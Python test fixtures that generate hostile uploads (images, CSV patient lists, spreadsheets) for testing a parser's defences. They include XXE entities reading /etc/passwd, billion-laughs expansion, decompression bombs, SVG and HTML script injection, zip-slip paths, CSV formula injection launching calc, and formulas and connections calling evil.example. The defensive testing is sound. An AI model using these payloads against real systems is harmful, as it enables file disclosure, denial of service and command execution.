"""Files made to harm whoever opens them: pictures, lists and spreadsheets, each made anew in a few milliseconds."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image

from tests.factories.batches import HEADING, csv_list, patient, spreadsheet

_XML = b'<?xml version="1.0"?>'
_ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    b"<!DOCTYPE x [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)


_RELATIONS = b"http://schemas.openxmlformats.org/package/2006/relationships"
_SHEET_KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
_OUTSIDE = (
    _XML + b"<Relationships xmlns='%s'><Relationship Id='rId1' Type='%s' Target='file:///etc/passwd'/></Relationships>"
)
_OUTSIDE %= (_RELATIONS, _SHEET_KIND)


def _png(
    width: int, height: int, *more: tuple[bytes, bytes], data: bytes = bytes(1000), depth: int = 8, kind: int = 2
) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0))
    rest = b"".join(chunk(*one) for one in more)
    return b"\x89PNG\r\n\x1a\n" + head + rest + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def _saved(kind: str, size: tuple[int, int] = (30, 20), **options: object) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, "teal").save(target, kind, **options)
    return target.getvalue()


def pictures() -> dict[str, bytes]:
    good, jpeg, webp = _saved("PNG"), _saved("JPEG"), _saved("WEBP")
    bomb = zlib.compress(bytes(30_000_000), 9)
    return {
        "huge header": _png(60_000, 60_000),
        "twelve thousand square": _png(12_000, 12_000),
        "as wide as numbers go": _png(2**31 - 1, 2**31 - 1),
        "wide and flat": _png(19_999_999, 1),
        "no width": _png(0, 0),
        "no such depth": _png(10, 10, depth=99),
        "no such colours": _png(10, 10, kind=7),
        "palette that is not there": _png(10, 10, kind=3),
        "text that unpacks to much": _png(10, 10, (b"zTXt", b"x\0\0" + bomb)),
        "a profile that unpacks to much": _png(10, 10, (b"iCCP", b"x\0\0" + bomb)),
        "international text that unpacks to much": _png(10, 10, (b"iTXt", b"x\0\1\0\0\0" + bomb)),
        "pixels that unpack to much": _png(10, 10, data=bytes(30_000_000)),
        "broken text": _png(10, 10, (b"zTXt", b"x\0\0no stream")),
        "chunk longer than the file": good[:33] + b"\x7f\xff\xff\xffIDAT" + good[41:],
        "wrong checksum": good[:29] + b"\0\0\0\0" + good[33:],
        "half a picture": good[: len(good) // 2],
        "a signature alone": good[:8],
        "animated": _saved("PNG", save_all=True, append_images=[Image.new("RGB", (30, 20))] * 3),
        "orientation that is none": _saved(
            "JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\1\1\x12\0\3\0\0\0\1\xff\xff\0\0\0\0\0\0"
        ),
        "exif that points at itself": _saved(
            "JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\1\x87\x69\0\4\0\0\0\1\0\0\0\x08\0\0\0\x08"
        ),
        "exif that ends early": _saved("JPEG", exif=b"Exif\0\0MM\0*\0\0\xff\xff"),
        "jpeg without pixels": jpeg[:20],
        "jpeg cut short": jpeg[:-200],
        "jpeg of no size": jpeg.replace(struct.pack(">HH", 20, 30), bytes(4), 1),
        "jpeg of every size": jpeg.replace(struct.pack(">HH", 20, 30), b"\xff" * 4, 1),
        "webp cut short": webp[:30],
        "webp of every size": webp[:26] + b"\xff" * 4 + webp[30:],
        "webp longer than it is": webp[:4] + b"\xff\xff\xff\x7f" + webp[8:],
        "svg with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=1"/>',
        "svg with an entity": _XML + _ENTITY + b"<svg>&e;</svg>",
        "html": b"<!doctype html><script>window.__hit=1</script>",
        "script behind a picture": good + b"<script>window.__hit=1</script>",
        "picture and archive": good + b"PK\x05\x06" + bytes(18),
        "gif": _saved("GIF"),
        "bitmap": _saved("BMP"),
        "tiff": _saved("TIFF"),
        "icon": _saved("ICO"),
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(id) (w) file\n",
        "xpm": b'/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c #000000", "a"};',
        "a program": b"\x7fELF" + bytes(200),
        "packed": gzip.compress(good),
        "a pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>endobj",
        "a name of a file": b"/etc/passwd",
        "zeros": bytes(5_000),
    }


def lists() -> dict[str, bytes]:
    """Text files that say they are a day's list."""
    good = csv_list([patient(1)])
    return {
        "quotation mark never closed": good + b'"Ann',
        "a field of a megabyte": good + b'"' + b"x" * 1_000_000 + b'"',
        "a line of a megabyte": good + b"x" * 1_000_000,
        "a hundred thousand lines": good + b"a,b,c,d\n" * 100_000,
        "a hundred thousand blank lines": good + b"\n" * 100_000,
        "ten thousand columns": b"Name," * 10_000 + b"\n" + b"x," * 10_000,
        "zeros": b"\0" * 10_000,
        "a zero in a name": good.replace(b"Ann", b"A\0n"),
        "half a letter": good + b"\xc3",
        "utf-16 without an end": b"\xff\xfeA",
        "utf-32": good.decode().encode("utf-32"),
        "utf-7": b"+ADw-script+AD4-\n1,2",
        "only a mark": b"\xef\xbb\xbf",
        "the heading twice": b"Name,Name,DOB\nAnn,Ben,1950-03-04",
        "no heading": b"1,2,3\n4,5,6",
        "quotes in quotes": b'"""""","""""\n""",""',
        "carriage returns": good.replace(b"\r\n", b"\r"),
        "a delimiter of its own": b"sep=\x01\nName\x01DOB\nAnn\x011950-03-04",
        "rich text": b"{\\rtf1 {\\object}}",
        "html": b"<table><tr><td>Name</td></tr></table>",
        "xml with an entity": _XML + _ENTITY + b"<x>&e;</x>",
        "json": b'[{"Name": "Ann"}]',
        "old spreadsheet": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "a program": b"MZ" + bytes(600),
        "dates beyond all days": csv_list([("Ann", "99999-99-99", "0000-00-00", "Dr. Ames")]),
        "digits of another script": csv_list([("Ann", "١٩٥٠-٠٣-٠٤", "２０２６-11-22", "Dr. Ames")]),
        "a number of a thousand digits": csv_list([("Ann", "9" * 1_000, "1" * 1_000, "Dr. Ames")]),
        "two rows in one cell": csv_list([("Ann\r\nBen,1950-03-04", *patient(1)[1:])]),
        **{f"formula {sign!r}": csv_list([(f"{sign}cmd|' /C calc'!A0", *patient(1)[1:])]) for sign in "=+-@\t＝"},
    }


def _changed(changed: Mapping[str, bytes | None]) -> bytes:
    """A good spreadsheet with parts changed, added, or left out for None."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(spreadsheet([patient(1)]))) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.infolist():
            body = changed.get(part.filename, old.read(part))
            if body is not None:
                new.writestr(part.filename, body)
        known = set(old.namelist())
        for name, body in changed.items():
            if name not in known and body is not None:
                new.writestr(name, body)
    return target.getvalue()


def _cell(place: bytes, kind: bytes, body: bytes) -> bytes:
    """A sheet of one cell."""
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    row = b'<row r="1"><c r="%s" t="%s">%s</c></row>' % (place, kind, body)
    return _XML + b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (main, row)


def spreadsheets() -> dict[str, bytes]:
    sheet = "xl/worksheets/sheet1.xml"
    return {
        "a part that unpacks to much": _changed({sheet: bytes(30_000_000)}),
        "a thousand parts": _changed({f"xl/x{n}.xml": b"<x/>" for n in range(1_000)}),
        "entity in the sheet": _changed({sheet: _XML + _ENTITY + b"<worksheet>&e;</worksheet>"}),
        "laughs in the sheet": _changed({sheet: _XML + _LAUGHS + b"<worksheet>&j;</worksheet>"}),
        "entity in the book": _changed({"xl/workbook.xml": _XML + _ENTITY + b"<workbook>&e;</workbook>"}),
        "laughs in the styles": _changed({"xl/styles.xml": _XML + _LAUGHS + b"<styleSheet>&j;</styleSheet>"}),
        "entity in the kinds": _changed({"[Content_Types].xml": _XML + _ENTITY + b"<Types>&e;</Types>"}),
        "macros": _changed({"xl/vbaProject.bin": bytes(100)}),
        "macro sheets": _changed({"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "a link to another book": _changed({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "a query of the web": _changed(
            {"xl/connections.xml": b'<connections><connection url="http://evil.example"/></connections>'}
        ),
        "a part outside": _changed({"../../../../tmp/mildsite-evil": b"x"}),
        "a part with a whole path": _changed({"/etc/mildsite-evil": b"x"}),
        "a sheet outside": _changed({"xl/_rels/workbook.xml.rels": _OUTSIDE}),
        "no sheet": _changed({sheet: None}),
        "no book": _changed({"xl/workbook.xml": None}),
        "a sheet of nonsense": _changed({sheet: b"<worksheet><sheetData><row r='x'"}),
        "a cell far to the right": _changed({sheet: _cell(b"XFD1048576", b"n", b"<v>1</v>")}),
        "a cell that is nowhere": _changed({sheet: _cell(b"ZZZZZ0", b"n", b"<v>1</v>")}),
        "a word that is not there": _changed({sheet: _cell(b"A1", b"s", b"<v>999999</v>")}),
        "a number without end": _changed({sheet: _cell(b"A1", b"n", b"<v>1e99999</v>")}),
        "a date beyond all days": _changed({sheet: _cell(b"A1", b"d", b"<v>99999-99-99</v>")}),
        "a formula": spreadsheet([('=WEBSERVICE("http://evil.example/")', *patient(1)[1:])]),
        "words that open a formula": spreadsheet([("=cmd|' /C calc'!A0", *patient(1)[1:])], heading=HEADING),
        "an archive of nothing": b"PK\x05\x06" + bytes(18),
        "an archive cut short": spreadsheet([patient(1)])[:500],
        "a signature alone": b"PK\x03\x04",
        "two ends": spreadsheet([patient(1)]) + b"PK\x05\x06" + b"\xff" * 18,
    }
